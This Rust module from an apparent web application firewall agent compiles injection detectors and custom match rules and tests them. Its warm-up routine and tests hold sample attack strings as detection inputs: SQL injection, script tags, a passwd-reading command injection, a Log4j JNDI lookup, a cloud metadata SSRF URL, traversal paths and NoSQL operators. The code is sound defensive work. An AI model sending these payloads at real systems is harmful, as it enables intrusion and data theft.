//! Detection rules as the agent runs them: built-in detectors and custom matches, compiled from
//! the policy configuration the operator sends.
//!
//! The injection detectors (`sqlInjection`, `xss`, `commandInjection`, `ssrf`, `jndiInjection`,
//! `pathTraversal`, `nosqlInjection`) inspect every decoded value of a request ([`Inputs`]): the path, query
//! parameter names and values, header values (not the protocol headers), cookie values, and
//! body fields (URL-encoded and multipart forms, JSON strings and keys, XML text and attributes,
//! other text whole) when the view carries a body. Each detector has a cheap prefilter, then a
//! real analysis: SQL is tokenised, shell commands are parsed after their separators, URLs'
//! hosts are resolved to addresses, Log4j lookups are evaluated, MongoDB operators are told from
//! other `$` keys by where they stand. See docs/detection.md.

pub mod behaviour;
mod cmdi;
pub mod decode;
pub mod exposure;
pub mod inputs;
mod jndi;
mod json;
mod nosql;
pub mod scan;
mod shadow;
mod sqli;
mod ssrf;
mod traversal;
mod xss;

pub use decode::{decode_layers, percent_decode_once};
pub use inputs::{Input, Inputs, Source};
pub use traversal::path_traversal;

use palisade_api::agent::{string_match_config, RuleConfig, StringMatchConfig};
use regex::Regex;

/// What a detector sees of a request.
pub struct RequestView<'a> {
    pub method: &'a str,
    /// The request target as sent (path and query, not decoded).
    pub target: &'a str,
    pub headers: &'a crate::http::HeaderFields,
    /// The request body (de-chunked, possibly truncated), when it was captured. The body's
    /// Content-Type is taken from `headers`.
    pub body: Option<&'a [u8]>,
}

/// A match: the rule that fired and what matched (not yet redacted).
#[derive(Debug, Clone, PartialEq)]
pub struct Detection {
    pub evidence: String,
}

/// What one detector found in one value: why, and the decoded text around it.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Hit {
    pub reason: &'static str,
    pub excerpt: String,
}

/// The built-in detectors implemented here, in their CRD spelling.
/// Builds the detectors' lazily built tables (keyword automata, regexes) now, by running every
/// injection detector over a few requests, so that the first attack after start-up is judged
/// (and answered: a block, an isolation) as fast as the next ones. Takes milliseconds.
pub fn warm_up() {
    let headers: crate::http::HeaderFields = [
        ("Host", "warm-up"),
        ("User-Agent", "Mozilla/5.0 (${jndi:ldap://x/a})"),
        ("Content-Type", "application/json"),
    ]
    .into_iter()
    .collect();
    let requests = [
        "/a?id=1%27%20union%20select%20a,b%20from%20users--&q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/b/..%2f..%2fetc%2fpasswd?cmd=;cat%20/etc/passwd&url=http://169.254.169.254/latest",
        "/c?name=plain&page=2",
    ];
    let rules: Vec<CompiledRule> = INJECTION_DETECTORS
        .iter()
        .filter_map(|d| CompiledRule::builtin(d, &[]).ok())
        .collect();
    for target in requests {
        let view = RequestView {
            method: "POST",
            target,
            headers: &headers,
            body: Some(br#"{"q": "1 OR 1=1; DROP TABLE t", "x": "$(id)"}"#),
        };
        let inputs = Inputs::collect(&view);
        for rule in &rules {
            let _ = rule.evaluate_with(&view, &inputs);
        }
    }
}

pub const INJECTION_DETECTORS: &[&str] = &[
    "sqlInjection",
    "xss",
    "commandInjection",
    "ssrf",
    "jndiInjection",
    "pathTraversal",
    "nosqlInjection",
];

/// A built-in detector with its parameters applied.
enum Injection {
    Sql { paranoia: u8 },
    Xss(Box<xss::Xss>),
    Command { paranoia: u8 },
    Ssrf(ssrf::Ssrf),
    Jndi { paranoia: u8 },
    Traversal { paranoia: u8 },
    NoSql { paranoia: u8 },
}

impl Injection {
    fn compile(
        detector: &str,
        params: &std::collections::BTreeMap<String, String>,
    ) -> Result<Option<Injection>, String> {
        let allowed: &[&str] = match detector {
            "sqlInjection" | "xss" | "commandInjection" | "jndiInjection" | "pathTraversal"
            | "nosqlInjection" => &["paranoia"],
            "ssrf" => &["paranoia", "allowHosts"],
            _ => return Ok(None),
        };
        let mut keys: Vec<&String> = params.keys().filter(|k| !allowed.contains(&k.as_str())).collect();
        keys.sort();
        if let Some(k) = keys.first() {
            return Err(format!(
                "unknown parameter {k:?} for detector {detector} (known: {})",
                allowed.join(", ")
            ));
        }
        let paranoia = match params.get("paranoia").map(|p| p.trim()) {
            None | Some("1") => 1,
            Some("2") => 2,
            Some(other) => return Err(format!("params.paranoia must be \"1\" or \"2\", not {other:?}")),
        };
        Ok(Some(match detector {
            "sqlInjection" => Injection::Sql { paranoia },
            "xss" => Injection::Xss(Box::new(xss::Xss::new(paranoia)?)),
            "commandInjection" => Injection::Command { paranoia },
            "jndiInjection" => Injection::Jndi { paranoia },
            "pathTraversal" => Injection::Traversal { paranoia },
            "nosqlInjection" => Injection::NoSql { paranoia },
            _ => Injection::Ssrf(ssrf::Ssrf::new(
                paranoia,
                params
                    .get("allowHosts")
                    .map(|h| {
                        h.split(',')
                            .map(str::trim)
                            .filter(|h| !h.is_empty())
                            .map(String::from)
                            .collect()
                    })
                    .unwrap_or_default(),
            )),
        }))
    }

    fn check(&self, input: &Input) -> Option<Hit> {
        let (value, scan): (&str, _) = (&input.value, input.scan);
        // Path segments are for the SQL reading only; the others read the whole path.
        if (input.source == Source::PathSegment) != matches!(self, Injection::Sql { .. })
            && (input.source == Source::PathSegment || input.source == Source::Path)
        {
            return None;
        }
        match self {
            Injection::Sql { paranoia } => sqli::detect_in(value, scan, *paranoia),
            Injection::Xss(x) => x.detect_in(value, scan),
            Injection::Command { paranoia } => cmdi::detect_in(value, scan, *paranoia, input.is_header()),
            Injection::Ssrf(s) => s.detect_in(value, scan, input.source == Source::Header, input.is_value()),
            Injection::Jndi { paranoia } => jndi::detect_in(value, scan, *paranoia),
            Injection::Traversal { paranoia } => traversal::detect_in(value, scan, *paranoia),
            Injection::NoSql { paranoia } => nosql::detect_in(value, scan, *paranoia, input.source),
        }
    }

    fn evaluate(&self, req: &RequestView, inputs: &Inputs) -> Option<Detection> {
        for input in &inputs.items {
            let Some(hit) = self.check(input) else {
                continue;
            };
            if let Injection::Traversal { .. } = self {
                // Traversal in the path or query: the decoded target shows it best (and the
                // redactor knows how to clean a target).
                if matches!(
                    input.source,
                    Source::Path | Source::PathSegment | Source::QueryName | Source::QueryValue
                ) {
                    return Some(Detection {
                        evidence: decode_layers(req.target),
                    });
                }
            }
            let evidence = if input.is_secret_location() {
                format!("{} in {}", hit.reason, input.location())
            } else {
                format!("{} in {}: {}", hit.reason, input.location(), hit.excerpt)
            };
            return Some(Detection { evidence });
        }
        if let Injection::Jndi { paranoia } = self {
            // Lookups are logged from any header, including the protocol ones.
            for (name, value) in &inputs.all_headers {
                if let Some(hit) = jndi::detect_in_raw(value, *paranoia) {
                    return Some(Detection {
                        evidence: format!("{} in header {name}", hit.reason),
                    });
                }
            }
        }
        None
    }
}

enum Matcher {
    Exact(String),
    Contains(String),
    Regex(Regex),
}

impl Matcher {
    fn compile(m: &StringMatchConfig) -> Result<Option<Matcher>, String> {
        Ok(match &m.kind {
            Some(string_match_config::Kind::Exact(v)) => Some(Matcher::Exact(v.clone())),
            Some(string_match_config::Kind::Contains(v)) => Some(Matcher::Contains(v.clone())),
            Some(string_match_config::Kind::Regex(v)) => Some(Matcher::Regex(
                regex::RegexBuilder::new(v)
                    .size_limit(1 << 20)
                    .build()
                    .map_err(|e| format!("invalid regex {v:?}: {e}"))?,
            )),
            None => None,
        })
    }

    fn matches(&self, s: &str) -> bool {
        match self {
            Matcher::Exact(v) => s == v,
            Matcher::Contains(v) => s.contains(v.as_str()),
            Matcher::Regex(r) => r.is_match(s),
        }
    }
}

struct CustomMatch {
    methods: Vec<String>,
    path: Option<Matcher>,
    query: Option<Matcher>,
    headers: Vec<(String, Option<Matcher>)>,
    /// Matched against the captured body (lossy UTF-8); needs the monitor to capture bodies.
    body: Option<Matcher>,
}

enum RuleKind {
    Builtin(Injection),
    Custom(CustomMatch),
    /// Judged on the exchange (request and response), with state.
    Behaviour(behaviour::Behaviour),
    /// Judged on the exchange against the monitor's OpenAPI document.
    Shadow(shadow::ShadowEndpoint),
}

/// A compiled rule.
pub struct CompiledRule {
    pub name: String,
    pub detector: String,
    pub severity: String,
    kind: RuleKind,
}

impl CompiledRule {
    /// Compiles a rule; the error says why it cannot run (it becomes a policy condition).
    pub fn compile(rule: &RuleConfig) -> Result<CompiledRule, String> {
        let kind = match (rule.detector.as_str(), &rule.r#match) {
            ("", Some(m)) => {
                let compile = |m: &Option<StringMatchConfig>| {
                    m.as_ref().map(Matcher::compile).transpose().map(Option::flatten)
                };
                RuleKind::Custom(CustomMatch {
                    body: compile(&m.body).map_err(|e| format!("rule {}: match.body: {e}", rule.name))?,
                    methods: m.methods.clone(),
                    path: compile(&m.path).map_err(|e| format!("rule {}: match.path: {e}", rule.name))?,
                    query: compile(&m.query).map_err(|e| format!("rule {}: match.query: {e}", rule.name))?,
                    headers: m
                        .headers
                        .iter()
                        .map(|h| Ok((h.name.to_ascii_lowercase(), compile(&h.value)?)))
                        .collect::<Result<_, String>>()
                        .map_err(|e| format!("rule {}: match.headers: {e}", rule.name))?,
                })
            }
            ("", None) => return Err(format!("rule {}: neither detector nor match is set", rule.name)),
            (detector, _) => {
                let injection = Injection::compile(detector, &rule.params)
                    .map_err(|e| format!("rule {}: {e}", rule.name))?;
                let behaviour = match injection {
                    Some(_) => None,
                    None => behaviour::Behaviour::compile(detector, &rule.params)
                        .map_err(|e| format!("rule {}: {e}", rule.name))?,
                };
                match (injection, behaviour) {
                    (Some(injection), _) => RuleKind::Builtin(injection),
                    (None, Some(behaviour)) => RuleKind::Behaviour(behaviour),
                    (None, None) if detector == "shadowEndpoint" => RuleKind::Shadow(
                        shadow::ShadowEndpoint::compile(&rule.params)
                            .map_err(|e| format!("rule {}: {e}", rule.name))?,
                    ),
                    (None, None) => {
                        return Err(format!(
                            "rule {}: detector {detector} is not implemented by this agent version yet",
                            rule.name
                        ))
                    }
                }
            }
        };
        Ok(CompiledRule {
            name: rule.name.clone(),
            detector: if rule.detector.is_empty() {
                "custom".into()
            } else {
                rule.detector.clone()
            },
            severity: rule.severity.clone(),
            kind,
        })
    }

    /// A built-in detector with parameters, outside any policy (tools, tests, benchmarks).
    pub fn builtin(detector: &str, params: &[(&str, &str)]) -> Result<CompiledRule, String> {
        CompiledRule::compile(&RuleConfig {
            name: detector.to_string(),
            detector: detector.to_string(),
            params: params
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            severity: String::new(),
            r#match: None,
            actions: vec![],
        })
    }

    /// Evaluates the rule. Callers that run several rules on one request should split the request
    /// once with [`Inputs::collect`] and call [`CompiledRule::evaluate_with`].
    pub fn evaluate(&self, req: &RequestView) -> Option<Detection> {
        match &self.kind {
            RuleKind::Builtin(d) => d.evaluate(req, &Inputs::collect(req)),
            RuleKind::Custom(m) => m.evaluate(req),
            RuleKind::Behaviour(_) | RuleKind::Shadow(_) => None,
        }
    }

    /// Evaluates the rule on a request already split into `inputs` (from the same request).
    pub fn evaluate_with(&self, req: &RequestView, inputs: &Inputs) -> Option<Detection> {
        match &self.kind {
            RuleKind::Builtin(d) => d.evaluate(req, inputs),
            RuleKind::Custom(m) => m.evaluate(req),
            RuleKind::Behaviour(_) | RuleKind::Shadow(_) => None,
        }
    }

    /// Whether the rule is judged on exchanges ([`Self::evaluate_exchange`]) rather than on
    /// requests alone.
    pub fn is_behavioural(&self) -> bool {
        matches!(self.kind, RuleKind::Behaviour(_) | RuleKind::Shadow(_))
    }

    /// Whether the rule needs the monitor's OpenAPI document.
    pub fn needs_openapi(&self) -> bool {
        matches!(self.kind, RuleKind::Shadow(_))
    }

    /// Judges an exchange with a behavioural rule (others return None: they judge requests).
    /// `openapi` is the document of the monitor that watched the exchange, if it has one.
    pub fn evaluate_exchange(
        &mut self,
        ex: &behaviour::ExchangeView,
        openapi: Option<&crate::openapi::OpenApiIndex>,
    ) -> Option<Detection> {
        let evidence = match &mut self.kind {
            RuleKind::Behaviour(b) => b.evaluate(ex),
            RuleKind::Shadow(s) => s.evaluate(ex, openapi),
            _ => None,
        };
        evidence.map(|evidence| Detection { evidence })
    }

    /// Keys a behavioural rule could not track because its table was full.
    pub fn untracked(&self) -> u64 {
        match &self.kind {
            RuleKind::Behaviour(b) => b.untracked(),
            _ => 0,
        }
    }
}

impl CustomMatch {
    fn evaluate(&self, req: &RequestView) -> Option<Detection> {
        if !self.methods.is_empty() && !self.methods.iter().any(|x| x == req.method) {
            return None;
        }
        let decoded = decode_layers(req.target);
        let (path, query) = decoded.split_once('?').unwrap_or((decoded.as_str(), ""));
        if self.path.as_ref().is_some_and(|p| !p.matches(path))
            || self.query.as_ref().is_some_and(|q| !q.matches(query))
        {
            return None;
        }
        for (name, value) in &self.headers {
            let found = req.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name));
            match (found, value) {
                (None, _) => return None,
                (Some((_, v)), Some(matcher)) if !matcher.matches(v) => return None,
                _ => {}
            }
        }
        let mut evidence = format!("{} {}", req.method, decoded);
        if let Some(matcher) = &self.body {
            let body = String::from_utf8_lossy(req.body?);
            if !matcher.matches(&body) {
                return None;
            }
            evidence.push_str(" body: ");
            evidence.push_str(&body);
        }
        Some(Detection { evidence })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::HeaderFields;
    use palisade_api::agent::RequestMatchConfig;

    #[test]
    fn traversal_is_found_through_encodings() {
        for attack in [
            "/files/../../etc/passwd",
            "/files/..%2f..%2fetc%2fpasswd",
            "/files/%2e%2e/%2e%2e/etc/passwd",
            "/files/%252e%252e%252fetc%252fpasswd",
            "/files/..%5c..%5cwindows%5cwin.ini",
            "/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            "/files/%u002e%u002e/etc/passwd",
            "/download?file=../../../etc/shadow",
            "/download?file=..",
            "/a/..;/admin",
        ] {
            assert!(path_traversal(attack).is_some(), "missed {attack}");
        }
    }

    #[test]
    fn benign_paths_pass() {
        for ok in [
            "/files/report..pdf",
            "/files/a.b.c",
            "/users/42?sort=name",
            "/v1.2/items",
            "/search?q=what..ever",
            "/%",
            "/%zz",
            "/%u12",
        ] {
            assert!(path_traversal(ok).is_none(), "false positive on {ok}");
        }
    }

    fn view<'a>(target: &'a str, headers: &'a HeaderFields, body: Option<&'a str>) -> RequestView<'a> {
        RequestView {
            method: "POST",
            target,
            headers,
            body: body.map(str::as_bytes),
        }
    }

    fn headers(h: &[(&str, &str)]) -> HeaderFields {
        h.iter().copied().collect()
    }

    #[test]
    fn every_detector_compiles_and_finds_its_attack_where_it_hides() {
        let form = headers(&[("Content-Type", "application/x-www-form-urlencoded")]);
        let json = headers(&[("Content-Type", "application/json")]);
        let ua = headers(&[("User-Agent", "${${lower:j}ndi:ldap://x/a}")]);
        let cases: Vec<(&str, RequestView, &str)> = vec![
            (
                "sqlInjection",
                view(
                    "/items?id=1%27%20or%20%271%27%3D%271",
                    HeaderFields::empty(),
                    None,
                ),
                "query id",
            ),
            (
                "sqlInjection",
                view("/login", &form, Some("user=admin%27--&pw=x")),
                "body user",
            ),
            (
                "xss",
                view(
                    "/c",
                    &json,
                    Some(r#"{"comment": "\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
                ),
                "body comment",
            ),
            (
                "commandInjection",
                view(
                    "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
                    HeaderFields::empty(),
                    None,
                ),
                "query host",
            ),
            (
                "ssrf",
                view(
                    "/fetch",
                    &json,
                    Some(r#"{"url": "http://169.254.169.254/latest/meta-data/"}"#),
                ),
                "body url",
            ),
            ("jndiInjection", view("/", &ua, None), "header User-Agent"),
            (
                "pathTraversal",
                view("/upload", &json, Some(r#"{"name": "../../etc/passwd"}"#)),
                "body name",
            ),
            // crAPI's coupon: an operator object where the code's string belongs.
            (
                "nosqlInjection",
                view(
                    "/workshop/api/shop/apply_coupon",
                    &json,
                    Some(r#"{"coupon_code": {"$ne": 1}, "amount": 75}"#),
                ),
                "body name",
            ),
            (
                "nosqlInjection",
                view(
                    "/login?user=admin&password%5B%24ne%5D=x",
                    HeaderFields::empty(),
                    None,
                ),
                "query name",
            ),
        ];
        for (detector, req, location) in cases {
            let rule = CompiledRule::builtin(detector, &[]).unwrap();
            let d = rule
                .evaluate(&req)
                .unwrap_or_else(|| panic!("{detector} missed {}", req.target));
            assert!(d.evidence.contains(location), "{detector}: {}", d.evidence);
        }
    }

    #[test]
    fn benign_api_requests_pass_every_detector() {
        let json = headers(&[
            ("Content-Type", "application/json"),
            ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
            ("Referer", "https://shop.example.com/cart?step=2&coupon=SAVE10"),
            ("Cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark"),
        ]);
        let kubectl = headers(&[
            ("User-Agent", "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b"),
            ("Kubectl-Command", "kubectl get"),
            ("Kubectl-Session", "5f0c4b7e-2a1d-4c3e-9f5a-8b7c6d5e4f3a"),
        ]);
        let reqs = [
            view(
                "/api/v1/users/42/orders?sort=-created_at&limit=20&fields=id,total",
                &json,
                None,
            ),
            view(
                "/api/v1/orders",
                &json,
                Some(
                    r#"{"items": [{"sku": "A-1", "qty": 2}], "note": "Leave it at the door; ring twice & wait", "callback": "https://hooks.example.com/orders"}"#,
                ),
            ),
            view("/search?q=Rock+%27n%27+roll+%26+more", &json, None),
            // What kubectl 1.30+ sends with every request.
            view(
                "/api/v1/namespaces/default/pods?labelSelector=app%3Dweb",
                &kubectl,
                None,
            ),
            view(
                "/profile",
                &json,
                Some(r#"{"name": "O'Brien", "bio": "I like <b>bold</b> text and C# (and F#)"}"#),
            ),
            // `$` keys and parameters that are not MongoDB's: OData, GraphQL, JSON Schema.
            view(
                "/odata/Products?$filter=Price%20gt%205&$top=10&$orderby=Name",
                &json,
                None,
            ),
            view(
                "/graphql",
                &json,
                Some(
                    r#"{"query": "query Users($where: UserWhereInput, $first: Int) { users(where: $where, first: $first) { id } }", "variables": {"where": {"name": "x"}, "first": 10}}"#,
                ),
            ),
            view(
                "/schemas",
                &json,
                Some(
                    r##"{"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "order", "$comment": "v2", "type": "object", "properties": {"item": {"$ref": "#/$defs/item"}}}"##,
                ),
            ),
        ];
        for detector in INJECTION_DETECTORS {
            let rule = CompiledRule::builtin(detector, &[]).unwrap();
            for req in &reqs {
                assert!(
                    rule.evaluate(req).is_none(),
                    "{detector} fired on {}: {:?}",
                    req.target,
                    rule.evaluate(req)
                );
            }
        }
    }

    #[test]
    fn secrets_stay_out_of_evidence_and_params_are_checked() {
        let h = headers(&[("Cookie", "sid=' or 1=1--")]);
        let rule = CompiledRule::builtin("sqlInjection", &[]).unwrap();
        let d = rule.evaluate(&view("/", &h, None)).unwrap();
        assert_eq!(d.evidence, "boolean condition after break-out in cookie sid");

        assert!(CompiledRule::builtin("xss", &[("paranoia", "2")]).is_ok());
        let err = CompiledRule::builtin("xss", &[("paranoia", "5")]).err().unwrap();
        assert!(err.contains("paranoia"), "{err}");
        let err = CompiledRule::builtin("ssrf", &[("allowhosts", "a")])
            .err()
            .unwrap();
        assert!(err.contains("unknown parameter"), "{err}");
        let ssrf = CompiledRule::builtin("ssrf", &[("allowHosts", "localhost, metadata")]).unwrap();
        assert!(ssrf
            .evaluate(&view("/?u=http://localhost/", HeaderFields::empty(), None))
            .is_none());
    }

    #[test]
    fn hostile_values_neither_panic_nor_take_long() {
        let rules: Vec<CompiledRule> = INJECTION_DETECTORS
            .iter()
            .flat_map(|d| ["1", "2"].map(|p| CompiledRule::builtin(d, &[("paranoia", p)]).unwrap()))
            .collect();
        let mut values: Vec<String> = vec![
            "${".repeat(5000),
            "${${lower:j}".repeat(2000),
            "time ".repeat(20000),
            format!(";{}", "*a".repeat(200)),
            "((((((((((".repeat(5000) + "1 or 1=1",
            "' or ".repeat(20000),
            "/*".repeat(30000),
            "%25".repeat(30000),
            "&#".repeat(30000),
            "<a ".repeat(30000),
            "\\u".repeat(30000),
            "é∕ⓛ\u{0}'\"".repeat(10000),
        ];
        // Deterministic pseudo-random strings over a hostile alphabet, for slicing bugs.
        let alphabet: Vec<char> = "'\"`;|&$(){}[]<>=%#-/*\\.:@ aA0éⓛ∕\u{0}\n+,!?~^"
            .chars()
            .collect();
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        for _ in 0..300 {
            let len = (x % 64) as usize + 1;
            let mut v = String::new();
            for _ in 0..len {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                v.push(alphabet[(x % alphabet.len() as u64) as usize]);
            }
            values.push(v);
        }
        let start = std::time::Instant::now();
        let json = headers(&[("Content-Type", "application/json")]);
        for v in &values {
            let target = format!("/p?q={}", v.replace('&', "%26").replace('#', "%23"));
            let body = serde_json::json!({ "v": v }).to_string();
            let ua = headers(&[("User-Agent", v), ("Cookie", v)]);
            for req in [view(&target, &ua, None), view("/", &json, Some(&body))] {
                for rule in &rules {
                    let _ = rule.evaluate(&req);
                }
            }
        }
        assert!(
            start.elapsed() < std::time::Duration::from_secs(60),
            "{:?}",
            start.elapsed()
        );
    }

    fn custom(m: RequestMatchConfig) -> RuleConfig {
        RuleConfig {
            name: "c".into(),
            detector: String::new(),
            params: Default::default(),
            severity: "low".into(),
            r#match: Some(m),
            actions: vec![],
        }
    }

    #[test]
    fn custom_rules_match_and_bad_regex_is_an_error() {
        let rule = CompiledRule::compile(&custom(RequestMatchConfig {
            methods: vec!["DELETE".into()],
            path: Some(StringMatchConfig {
                kind: Some(string_match_config::Kind::Regex("^/admin/".into())),
            }),
            ..Default::default()
        }))
        .expect("compiles");
        let view = |m, t| RequestView {
            method: m,
            target: t,
            headers: HeaderFields::empty(),
            body: None,
        };
        assert!(rule.evaluate(&view("DELETE", "/admin/users/1")).is_some());
        assert!(rule.evaluate(&view("GET", "/admin/users/1")).is_none());
        assert!(rule.evaluate(&view("DELETE", "/users/1")).is_none());

        let err = CompiledRule::compile(&custom(RequestMatchConfig {
            path: Some(StringMatchConfig {
                kind: Some(string_match_config::Kind::Regex("(".into())),
            }),
            ..Default::default()
        }))
        .err()
        .expect("invalid regex is refused");
        assert!(
            err.contains("match.path") && err.contains("invalid regex"),
            "{err}"
        );

        // A detector from a newer operator than this agent.
        let unimplemented = RuleConfig {
            detector: "quantumLeap".into(),
            ..custom(RequestMatchConfig::default())
        };
        assert!(CompiledRule::compile(&unimplemented)
            .err()
            .is_some_and(|e| e.contains("not implemented")));
    }
}
